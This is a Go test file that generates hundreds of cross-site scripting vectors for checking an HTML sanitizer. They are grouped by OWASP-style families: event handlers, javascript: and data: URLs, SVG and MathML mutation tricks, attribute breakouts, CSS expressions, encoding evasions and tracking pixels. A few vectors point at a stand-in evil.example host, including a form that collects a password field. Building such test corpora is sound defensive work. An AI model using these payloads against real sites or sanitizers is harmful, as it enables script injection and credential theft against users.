package sanitize_test

import (
	"fmt"
	"strings"
)

// attack is one vector, and the family that it is of.
type attack struct{ family, html string }

// run is what a vector tries to run.
const run = "alert(1)"

// attacks generates the vectors: the families of OWASP's cheat sheets on cross-site
// scripting and its filters' evasion, each with the variations that it lives on.
func attacks() []attack {
	var all []attack
	add := func(family, format string, args ...any) {
		all = append(all, attack{family, fmt.Sprintf(format, args...)})
	}
	handlers(add)
	protocols(add)
	elementsThatAct(add)
	foreign(add)
	mutations(add)
	breakouts(add)
	styles(add)
	encodings(add)
	tracking(add)
	return all
}

type adder func(family, format string, args ...any)

func handlers(add adder) {
	tags := strings.Fields("img svg body video audio input details marquee select a p div table math object iframe isindex custom-tag")
	events := strings.Fields("onerror onload onclick onmouseover onfocus ontoggle onstart onbegin onanimationend onpointerrawupdate onbeforescriptexecute onwheel")
	for i, tag := range tags {
		for j := range 3 {
			add("event handlers", `<%s src=x href=x %s=%s autofocus tabindex=1 open>x`, tag, events[(i+5*j)%len(events)], run)
		}
	}
	for _, form := range []string{`<img src=x onerror="%s">`, `<img src=x onerror='%s'>`, "<img src=x onerror=`%s`>", "<img src=x\nonerror\n=\n%s>", "<img/src=x/onerror=%s>", "<img src=x\x0conerror=%s>",
		"<IMG SRC=x ONERROR=%s>", "<img src=x onerror=%s//", "<img src=x \x00onerror=%s>", "<img src=x on\x00error=%s>", "<img src='x'onerror=%s>", "<img src=x:x onerror=%s a=\"", "<img\tsrc=x\u00a0onerror=%s>"} {
		add("event handlers", form, run)
	}
}

func protocols(add adder) {
	for _, scheme := range []string{"javascript:", "JaVaScRiPt:", " javascript:", "\tjavascript:", "java\tscript:", "java\nscript:", "java\rscript:", "\x01javascript:", "\x00javascript:", "javascript\x00:", "javascript\t:",
		"&#106;avascript:", "&#x6A;avascript:", "&#0000106avascript:", "javascript&colon;", "javascript&#58;", "java&Tab;script:", "java&NewLine;script:", "&#14; javascript:", "feed:javascript:", "view-source:javascript:",
		"vbscript:", "livescript:", "mocha:", "data:text/html,<script>", "data:text/html;base64,PHNjcmlwdD4=", "data:image/svg+xml,<svg onload=alert(1)>", "blob:http://h/", "filesystem:http://h/", "file:///etc/passwd", "jar:http://h!/",
		"ms-its:", "about:blank#", "\u3000javascript:", "\u00a0javascript:", "\ufeffjavascript:", "javascript://%0a", "//javascript:", "http:javascript:", "../javascript:"} {
		add("protocols", `<a href="%s%s">x</a>`, scheme, run)
		add("protocols", `<img src='%s%s'><video poster="%[1]s%[2]s"><source src=%[1]s%[2]s></video><blockquote cite="%[1]s%[2]s">q</blockquote>`, scheme, run)
	}
	for _, attribute := range strings.Fields("src srcset href xlink:href action formaction data poster background dynsrc lowsrc cite longdesc codebase classid profile manifest icon usemap ping archive imagesrcset") {
		add("protocols", `<a %[1]s="javascript:%[2]s">x</a><img %[1]s="javascript:%[2]s"><form %[1]s="javascript:%[2]s"><button %[1]s="javascript:%[2]s">x</button></form><object %[1]s="javascript:%[2]s"></object>`, attribute, run)
	}
}

func elementsThatAct(add adder) {
	for _, s := range []string{`<script>%s</script>`, `<script src=//x.example/x.js></script>`, `<SCRIPT>%s</SCRIPT>`, `<script/x>%s</script>`, `<script >%s</script >`, "<script\n>%s</script\n>", `<<script>%s//<</script>`, `<script>%s`,
		`<scr<script>ipt>%s</scr</script>ipt>`, `<script x>%s</script x>`, `<script type=module>%s</script>`, `<script>a</script><script>%s</script>`, `</script><script>%s</script>`, `<x:script xmlns:x="http://www.w3.org/1999/xhtml">%s</x:script>`,
		`<iframe src="javascript:%s"></iframe>`, `<iframe srcdoc="<script>%s</script>"></iframe>`, `<iframe srcdoc="&lt;script&gt;%s&lt;/script&gt;" src=https://h/></iframe>`, `<iframe onload=%s src=https://h/></iframe>`, `<iframe src=https://h/ title="&quot;><script>%s</script>">`,
		`<iframe src="data:text/html,<script>%s</script>"></iframe>`, `<iframe src='https://h/"onload="%s'></iframe>`, `<frameset onload=%s><frame src="javascript:%[1]s"></frameset>`, `<iframe src=https://h/ width='1" onload="%s'></iframe>`, `<fencedframe src="javascript:%s"></fencedframe>`, `<portal src="javascript:%s"></portal>`,
		`<object data="javascript:%s"></object>`, `<object data=//h/x.swf type=application/x-shockwave-flash></object>`, `<embed src="javascript:%s">`, `<embed src=//h/x.swf allowscriptaccess=always>`, `<applet code=x archive=//h/x.jar></applet>`, `<object classid=clsid:ae24fdae-03c6-11d1-8b76-0080c744f389><param name=url value=javascript:%s></object>`,
		`<meta http-equiv=refresh content="0;url=javascript:%s">`, `<meta http-equiv="refresh" content="0;URL=data:text/html,<script>%s</script>">`, `<meta http-equiv=set-cookie content="a=%s">`, `<meta http-equiv=content-security-policy content="script-src 'unsafe-inline'">`, `<meta charset=utf-7>`,
		`<base href="javascript:%s//">`, `<base href=//evil.example/><a href=x>x</a>`, `<base target=_parent>`, `<link rel=stylesheet href="javascript:%s">`, `<link rel=import href=//h/>`, `<link rel=prefetch href=//h/><link rel=manifest href=//h/>`,
		`<form action="javascript:%s"><input type=submit></form>`, `<form><button formaction="javascript:%s">x</button></form>`, `<form id=x></form><button form=x formaction="javascript:%s">x</button>`, `<input type=image src=x onerror=%s>`, `<form action=//evil.example><input name=password autofocus></form>`,
		`<isindex type=image src=1 onerror=%s>`, `<textarea autofocus onfocus=%s></textarea>`, `<select onfocus=%s autofocus><option>x</select>`, `<keygen autofocus onfocus=%s>`, `<dialog open onclose=%s>x</dialog>`, `<button popovertarget=x>x</button><div popover id=x onbeforetoggle=%s>x</div>`,
		`<template><script>%s</script></template>`, `<template><template><img src=x onerror=%s></template></template>`, `<div><template shadowrootmode=open><img src=x onerror=%s></template></div>`, `<slot onslotchange=%s>x</slot>`, `<noscript><img src=x onerror=%s></noscript>`, `<noscript><p title="</noscript><img src=x onerror=%s>">`,
		`<noembed><img src=x onerror=%s></noembed>`, `<noframes><img src=x onerror=%s></noframes>`, `<xmp><img src=x onerror=%s></xmp>`, `<plaintext><img src=x onerror=%s>`, `<listing>&lt;img src=x onerror=%s&gt;</listing>`, `<title><img src=x onerror=%s></title>`, `<textarea></textarea><img src=x onerror=%s>`,
		`<map name=x><area href="javascript:%s" shape=default></map><img usemap=#x src=x>`, `<marquee onstart=%s>x</marquee>`, `<bgsound src="javascript:%s">`, `<layer src="javascript:%s"></layer>`, `<ilayer src="javascript:%s"></ilayer>`, `<xml id=x><i><b>&lt;img src=x onerror=%s&gt;</b></i></xml><span datasrc=#x datafld=b dataformatas=html></span>`,
		`<?xml-stylesheet href="javascript:%s"?>`, `<!DOCTYPE x [<!ENTITY y "<script>%s</script>">]>&y;`, `<a ping="javascript:%s" href=http://h/>x</a>`, `<a href=http://h/ target=_blank rel=opener download>x</a>`, `<p id=__proto__ name=body class=admin is=x-y slot=x contenteditable>x</p>`} {
		if strings.Contains(s, "%") {
			s = fmt.Sprintf(s, run)
		}
		add("elements", "%s", s)
	}
}

func foreign(add adder) {
	for _, s := range []string{`<svg onload=%s>`, `<svg/onload=%s>`, `<svg><script>%s</script></svg>`, `<svg><script>&#97;lert(1)</script></svg>`, `<svg><script href="data:,%s"/></svg>`, `<svg><a xlink:href="javascript:%s"><text>x</text></a></svg>`, `<svg><animate onbegin=%s attributeName=x dur=1s>`,
		`<svg><a><animate attributeName=href values="javascript:%s"/><text>x</text></a></svg>`, `<svg><set attributeName=href to="javascript:%s">`, `<svg><use href="data:image/svg+xml,<svg id=x onload=%s>#x"/></svg>`, `<svg><foreignObject><img src=x onerror=%s></foreignObject></svg>`, `<svg><style><img src=x onerror=%s></style></svg>`,
		`<svg><desc><img src=x onerror=%s></desc></svg>`, `<svg><title><img src=x onerror=%s></title></svg>`, `<svg><image href=x onerror=%s>`, `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event=load>%s</handler></svg>`, `<svg><![CDATA[<img src=x onerror=%s>]]></svg>`, `<svg><p><img src=x onerror=%s>`,
		`<math alttext="</math><img src=x onerror=%s>"><mi>x</mi></math>`, `<math><mi><style><img src=x onerror=%s></style></mi></math>`, `<math><mi></math><img src=x onerror=%s></mi></math>`,
		`<math><annotation encoding="TeX"></math><img src=x onerror=%s></annotation></math>`, `<math><annotation encoding="TeX">&lt;img src=x onerror=%s&gt;</annotation></math>`, `<math><mtext><table><mglyph><style><math><img src=x onerror=%s>`, `<math><mrow><p><style><!--</style><img title="--><img src=x onerror=%s>"></mrow></math>`,
		`<svg aria-label="<img src=x onerror=%s>"></svg>`, `<svg><title>&lt;img src=x onerror=%s&gt;</title></svg>`, `<svg><title></svg><img src=x onerror=%s></title></svg>`, `<script type="math/tex"><img src=x onerror=%s></script>`, `<script type="math/mml"><math><mi><img src=x onerror=%s></mi></math></script>`,
		`<noscript><pre><img src=x onerror=%s></pre></noscript>`, `<noscript><code><noscript><script>%s</script></noscript></code></noscript>`, `<img data-src="javascript:%s" data-srcset="javascript:%[1]s 1x">`, `<p style="direction:rtl&quot; onclick=%s">x</p>`, `<input type=checkbox onclick=%s checked="&quot;><img src=x onerror=x>">`,
		`<math href="javascript:%s">x</math>`, `<math><mi xlink:href="javascript:%s">x</mi></math>`, `<math><maction actiontype="statusline#http://h/" xlink:href="javascript:%s">x</maction></math>`, `<math><annotation-xml encoding="text/html"><img src=x onerror=%s></annotation-xml></math>`, `<math><mtext><img src=x onerror=%s></mtext></math>`,
		`<math><mi><mglyph><style><img src=x onerror=%s></style></mglyph></mi></math>`, `<x xmlns="http://www.w3.org/2000/svg" onload=%s>x</x>`, `<html:script xmlns:html="http://www.w3.org/1999/xhtml">%s</html:script>`, `<svg:svg onload=%s></svg:svg>`, `<a xml:base="javascript:%s//" href="#">x</a>`} {
		add("foreign namespaces", s, run)
	}
}

func mutations(add adder) {
	for _, s := range []string{`<noscript><p title="</noscript><img src=x onerror=%s>"></noscript>`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=%s&gt;">`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=%s>`,
		`<svg></p><style><a id="</style><img src=1 onerror=%s>">`, `<math></br><mglyph><style><img title="</style><img src onerror=%s>">`, `<svg><style>&lt;img src=x onerror=%s&gt;</style></svg>`, `<select><style></select><svg onload=%s></style>`, `<table><td><select><style><img src=x onerror=%s></style></select></table>`,
		`<p title="&lt;/p&gt;&lt;img src=x onerror=%s&gt;">x</p>`, "<listing><p title=\"`&lt;img src=x onerror=%s&gt;\">x</listing>", "<img alt=\"``onerror=%s\" src=x>", `<img alt="&quot;&gt;&lt;img src=x onerror=%s&gt;" src=http://h/>`, `<xmp><p title="</xmp><svg onload=%s>">`,
		`<style><p title="</style><img src=x onerror=%s>">`, `<script><!--<script></script><img src=x onerror=%s>--></script>`, `<iframe><p title="</iframe><img src=x onerror=%s>">`, `<textarea><p title="</textarea><img src=x onerror=%s>">`, `<title><p title="</title><img src=x onerror=%s>">`, `<noembed><p title="</noembed><img src=x onerror=%s>">`,
		`<noframes><p title="</noframes><img src=x onerror=%s>">`, `<template><p title="</template><img src=x onerror=%s>">`, `<svg><title><p title="</title></svg><img src=x onerror=%s>">`, `<!--><img src=x onerror=%s>-->`, `<!---><img src=x onerror=%s>-->`, `<!--x--!><img src=x onerror=%s>-->`, `<!-- --%%3E <img src=x onerror=%[1]s> -->`,
		`<![CDATA[><img src=x onerror=%s>]]>`, `<!x><img src=x onerror=%s>`, `</x title="><img src=x onerror=%s>">`, `<?x ><img src=x onerror=%s>?>`, `<!--[if gte IE 4]><script>%s</script><![endif]-->`, `<comment><img src="</comment><img src=x onerror=%s>">`,
		`<a><table><a href="javascript:%s">x</a></table></a>`, `<table><tr><a href="javascript:%s"><td>x</table>`, `<b><p><a href="javascript:%s"></b>x</p>`, `<a href="http://h/"><iframe src="https://h/" title='</a><img src=x onerror=%s>'></iframe></a>`, `<iframe src=https://h/ title="<iframe srcdoc='<script>%s</script>'>"></iframe>`,
		`<a href="https://h/" data-embed="1x1"><img src=x onerror=%s></a>`, `<a href="https://h/" data-embed='1x1" onclick="%s'>x</a>`, `<a data-embed="1x1" href="javascript:%s">x</a>`, `<a href="https://h/" data-embed="&lt;script&gt;%sx1">x</a>`} {
		add("mutation", s, run)
	}
}

func breakouts(add adder) {
	for _, quote := range []string{`"`, `'`, "`", `&quot;`, `&#34;`, `&#x22;`, `\"`, `%22`, ""} {
		for _, rest := range []string{` onmouseover=%s x=`, `><script>%s</script>`, `/><svg onload=%s>`, `></a><img src=x onerror=%s>`} {
			tail := fmt.Sprintf(rest, run)
			add("attribute breakout", `<a title='%[1]s%[2]s' href="http://h/%[1]s%[2]s">x</a>`, quote, tail)
			add("attribute breakout", `<img alt="%[1]s%[2]s" src='http://h/%[1]s%[2]s' srcset="http://h/%[1]s%[2]s 2x" width=%[1]s9%[2]s>`, quote, tail)
			add("attribute breakout", `<ol start="1%[1]s%[2]s" type='a%[1]s%[2]s'><li value="%[1]s%[2]s">x</ol><td colspan='2%[1]s%[2]s'>x<time datetime='2026-01-01%[1]s%[2]s'>x</time>`, quote, tail)
		}
	}
}

func styles(add adder) {
	for _, css := range []string{`expression(%s)`, `url(javascript:%s)`, `url("javascript:%s")`, `\75rl(javascript:%s)`, `u\72l(x)`, `exp/**/ression(%s)`, `@import "javascript:%s"`, `-moz-binding:url(//h/x.xml#x)`, `behavior:url(//h/x.htc)`, `-o-link:'javascript:%s'`, `position:fixed;top:0;left:0;width:100%%;height:100%%;z-index:9`,
		`background:url(//h/track.gif)`, `content:url(//h/x)`, `</style><script>%s</script>`} {
		if strings.Contains(css, "%s") {
			css = fmt.Sprintf(css, run)
		}
		add("style", `<div style="x:%s">x</div>`, strings.ReplaceAll(css, `"`, "&quot;"))
		add("style", `<style>%[1]s; p{x:%[1]s}</style><link rel=stylesheet href="data:text/css,%[1]s"><p style='%[1]s' class=x>x</p>`, css)
	}
}

func encodings(add adder) {
	for _, s := range []string{"+ADw-script+AD4-%s+ADw-/script+AD4-", "\xbcscript\xbe%s\xbc/script\xbe", "\xc0\xbcscript\xc0\xbe%s\xc0\xbc/script\xc0\xbe", "\xe0\x80\xbcscript>%s</script>", "<\x00script>%s</script>", "<scr\x00ipt>%s</script>", "\uff1cscript\uff1e%s\uff1c/script\uff1e", "&lt;script&gt;%s&lt;/script&gt;",
		"&amp;lt;script&amp;gt;%s&amp;lt;/script&amp;gt;", "&#60;script&#62;%s&#60;/script&#62;", "&#x3c;script&#x3e;%s", "&LT;script&GT;%s", "\\u003cscript\\u003e%s", "%%3Cscript%%3E%s%%3C/script%%3E", "<img src=x \xffonerror=%s>", "<img src=\"x\xc2\" onerror=\"%s\">", "<a href=\"\xff\xfejavascript:%s\">x</a>", "<\ufeffscript>%s</script>",
		"<\u017fcript>%s</script>", "<scr\u0131pt>%s</script>", "<\u017fvg onload=%s>", "<a href=\"\u202ejavascript:%s\">x</a>", "<a href=\"java\u200bscript:%s\">x</a>", "<img src=x onerr\u00f6r=%s>", "\x1b$B<script>%s</script>", "<img src=x oncl\u0131ck=%s>"} {
		add("encodings", s, run)
	}
}

func tracking(add adder) {
	for _, s := range []string{`<img src="https://h/x" width=1 height=1>`, `<img src="https://h/x" width="0" height="0">`, `<img src="https://h/x" width="1px" height="1PX">`, `<img src="https://h/x" height="1">`, `<img src="https://h/x" width=" 1 " height=''>`, `<img src="https://h/x" style="display:none">`, `<img src="https://h/x" style="WIDTH:1px;HEIGHT:1px">`,
		`<img src="https://h/x" style="visibility: hidden !important">`, `<img src="https://h/x" hidden>`, `<img src="https://h/x" style="display&#58;none">`, `<img width=1 src="https://h/x" height=1 srcset="https://h/y 2x">`,
		`<<img>img src="https://h/x" width=1 height=1>`, `<<frame>img src="https://h/x" width=1 height=1>`} {
		add("tracking", "%s", s)
	}
}
